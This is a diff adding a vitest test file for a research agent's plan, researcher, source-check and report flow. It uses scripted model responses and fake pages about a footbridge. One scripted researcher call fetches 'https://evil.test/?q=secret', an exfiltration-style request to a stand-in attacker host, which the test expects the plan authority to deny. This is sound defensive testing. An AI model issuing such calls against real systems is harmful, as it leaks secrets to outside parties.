@@ -1,0 +1,219 @@
+import { expect, test } from 'vitest'
+import { z } from 'zod'
+import { defineTool, type Tool } from '../../src/core/engine/calls/tool.ts'
+import { createFailure } from '../../src/core/model/failures/failure.ts'
+import { fail, succeed } from '../../src/core/model/failures/result.ts'
+import type { RunId, SessionId } from '../../src/core/model/id.ts'
+import type { JsonObject } from '../../src/core/model/json.ts'
+import { reportSchema } from '../../src/core/model/research/report.ts'
+import type { RunEventBody } from '../../src/core/model/runs/run-event.ts'
+import type { Interaction, InteractionAnswer } from '../../src/core/model/tools/interaction.ts'
+import { finish, toolCall, type Script } from '../doubles/scripted-model.ts'
+// Turns load it on demand, which takes more than the macrotasks that the bench waits.
+import '../../src/worker/runs/agents/research-turn.ts'
+import { HostBench } from './host-bench.ts'
+
+const pages: Record<string, string> = {
+  'https://bridges.test/opening': 'The footbridge opened in May 1998 and carried 12,400 people a day.',
+  'https://council.test/minutes': 'The council closed the footbridge in 2004 after a report.',
+}
+
+const webSearch: Tool = defineTool({
+  name: 'web_search',
+  description: 'Searches.',
+  parameters: z.object({ query: z.string() }),
+  effects: ['read', 'network'],
+  address: () => ({
+    origin: 'https://search.test',
+    pathname: '/',
+    href: 'https://search.test/',
+    chosenBy: 'user',
+    hasBody: true,
+  }),
+  execute: () => succeed({ results: Object.keys(pages).map((url) => ({ title: `Page ${url}`, url })) }),
+})
+
+const fetchUrl: Tool = defineTool({
+  name: 'fetch_url',
+  description: 'Reads.',
+  parameters: z.object({ url: z.string() }),
+  effects: ['read', 'network'],
+  address: ({ url }) => {
+    const { origin, pathname, href } = new URL(url)
+    return { origin, pathname, href, chosenBy: 'model' }
+  },
+  execute: ({ url }) =>
+    pages[url] === undefined
+      ? fail(createFailure('unreachable'))
+      : succeed({ url, title: `Page ${url}`, text: pages[url] }),
+})
+
+const calls = (...all: [name: string, args: JsonObject][]): Script => [
+  ...all.map(([name, args], index) => toolCall(`${name}-${index}`, name, JSON.stringify(args))),
+  finish('tool-calls'),
+]
+const plan: JsonObject = {
+  title: 'The footbridge',
+  steps: [{ id: 'opening', text: 'When did the footbridge open?' }],
+}
+const research: JsonObject = { stepId: 'opening', question: 'When did the footbridge open?' }
+const notes: JsonObject = {
+  summary: 'It opened in 1998 [1].',
+  notes: [{ claim: 'It opened in May 1998', sources: [1], quotation: 'opened in May 1998' }],
+  open: ['Who paid for it?'],
+}
+const report: JsonObject = {
+  title: 'The footbridge',
+  summary: 'It opened in 1998.',
+  body: '## When did it open?\n\nThe footbridge “opened in May 1998” [1]. It was painted [2].',
+}
+
+/** What a researcher does: search, read one page and an address that no search listed, hand in notes. */
+const researcherScripts: Script[] = [
+  calls(['web_search', { query: 'footbridge' }]),
+  calls(
+    ['fetch_url', { url: 'https://bridges.test/opening' }],
+    ['fetch_url', { url: 'https://evil.test/?q=secret' }],
+  ),
+  calls(['submit_notes', notes]),
+]
+
+function createBench(scripts: readonly Script[]): HostBench {
+  const bench = new HostBench(scripts)
+  for (const tool of [webSearch, fetchUrl]) bench.tools.register(tool)
+  bench.web = { ...bench.web, searchEngine: { id: 'tavily', name: 'Tavily', href: 'https://search.test/' } }
+  return bench
+}
+
+async function start(bench: HostBench): Promise<RunId> {
+  const started = await bench.send('session-1', undefined, {
+    text: 'When did the footbridge open?',
+    research: { effort: 'quick' },
+  })
+  if (!started.ok) throw new Error(started.failure.code)
+  bench.follow(started.value.runId)
+  await bench.settle()
+  return started.value.runId
+}
+
+const eventsOf = (bench: HostBench, runId: RunId) => bench.store.runs.get(runId)?.events ?? []
+const ofType = <Type extends RunEventBody['type']>(events: readonly RunEventBody[], type: Type) =>
+  events.filter((event): event is Extract<RunEventBody, { type: Type }> => event.type === type)
+
+function openPlan(bench: HostBench, runId: RunId): Extract<Interaction, { kind: 'plan' }> {
+  const raised = ofType(eventsOf(bench, runId), 'interaction-raised').at(-1)?.interaction
+  if (raised?.kind !== 'plan') throw new Error('no plan is open')
+  return raised
+}
+
+async function answer(bench: HostBench, { id }: Interaction, value: InteractionAnswer): Promise<void> {
+  await bench.interactions.answer('session-1' as SessionId, { interactionId: id, answer: value })
+  await bench.settle()
+}
+
+async function accept(bench: HostBench, runId: RunId): Promise<void> {
+  const { id: _, ...open } = openPlan(bench, runId)
+  const { plan: offered, terms } = open
+  await answer(bench, openPlan(bench, runId), {
+    outcome: 'accepted',
+    value: { kind: 'plan', plan: offered, terms },
+  })
+}
+
+test('a research runs from the plan to a checked report, and no researcher starts before the plan', async () => {
+  const bench = createBench([
+    calls(['research_plan', plan]),
+    calls(['researcher_agent', research]),
+    ...researcherScripts,
+    calls(['report_generation', report]),
+    calls(['report_generation', report]),
+  ])
+  const runId = await start(bench)
+  expect(openPlan(bench, runId)).toMatchObject({
+    plan,
+    searchEngine: 'Tavily',
+    terms: { effort: 'quick', maxDollars: null, maxTokens: 300_000, sources: ['web'] },
+  })
+  expect(bench.model.requests).toHaveLength(1)
+  expect(bench.agentRuns.rows.size).toBe(0)
+  await accept(bench, runId)
+
+  const events = eventsOf(bench, runId)
+  const [child] = bench.agentRuns.rows.values()
+  expect(ofType(child?.events ?? [], 'authority-decided').map(({ verdict, by }) => [verdict, by])).toEqual(
+    expect.arrayContaining([
+      ['approved', 'plan'],
+      ['denied', 'plan'],
+    ]),
+  )
+  expect(ofType(events, 'agent-ended')).toMatchObject([{ status: 'complete' }])
+  expect(ofType(events, 'notes-recorded')).toMatchObject([
+    { checked: 1, found: 1, notes: { stepId: 'opening' } },
+  ])
+  expect(ofType(events, 'source-recorded').map(({ source }) => [source.number, source.state])).toEqual([
+    [1, 'found'],
+    [2, 'found'],
+    [1, 'read'],
+  ])
+  expect(ofType(events, 'research-phase-changed').map(({ phase }) => phase)).toEqual([
+    'plan',
+    'research',
+    'report',
+    'done',
+  ])
+  expect(ofType(events, 'session-turn-end')).toMatchObject([{ status: 'complete' }])
+  const accepted = ofType(events, 'tool-invocation-succeeded').at(-1)
+  const written = reportSchema.parse(accepted?.result)
+  expect(written).toMatchObject({
+    title: 'The footbridge',
+    origin: 'model',
+    evidence: [
+      { source: 1, check: 'found', quotation: 'opened in May 1998' },
+      { source: 2, check: 'unread' },
+    ],
+  })
+  expect(written.body).toContain('It was painted. *(source not read)*')
+  expect(ofType(events, 'report-checked').map(({ repairs }) => repairs)).toEqual([0, 1])
+})
+
+test('“Cancel research” ends the turn as stopped, and nothing was researched', async () => {
+  const bench = createBench([calls(['research_plan', plan])])
+  const runId = await start(bench)
+  await answer(bench, openPlan(bench, runId), { outcome: 'rejected', reason: 'cancelled' })
+  const events = eventsOf(bench, runId)
+  expect(ofType(events, 'session-turn-end')).toMatchObject([{ status: 'stopped' }])
+  expect(bench.model.requests).toHaveLength(1)
+  expect(bench.agentRuns.rows.size).toBe(0)
+})
+
+test('a stop after the notes builds a report from them, marked as unfinished', async () => {
+  const bench = createBench([
+    calls(['research_plan', plan]),
+    calls(['researcher_agent', research]),
+    ...researcherScripts,
+    [{ type: 'hang' }],
+  ])
+  const runId = await start(bench)
+  await accept(bench, runId)
+  bench.runs.stop(runId)
+  await bench.settle()
+  const events = eventsOf(bench, runId)
+  expect(ofType(events, 'session-turn-end')).toMatchObject([{ status: 'stopped' }])
+  const built = reportSchema.parse(ofType(events, 'tool-invocation-succeeded').at(-1)?.result)
+  expect(built).toMatchObject({ origin: 'notes', isUnfinished: true, title: 'The footbridge' })
+  expect(built.body).toContain('## What we could not find\n\n- Who paid for it?')
+})
+
+test('a researcher that fails is named in the report', async () => {
+  const bench = createBench([
+    calls(['research_plan', plan]),
+    calls(['researcher_agent', research]),
+    [{ type: 'throw', error: new Error('broken') }],
+    calls(['report_generation', { ...report, body: 'The bridge is old.' }]),
+  ])
+  const runId = await start(bench)
+  await accept(bench, runId)
+  const events = eventsOf(bench, runId)
+  const written = reportSchema.parse(ofType(events, 'tool-invocation-succeeded').at(-1)?.result)
+  expect(written.body).toContain('## What we could not find\n\n- When did the footbridge open?')
+})
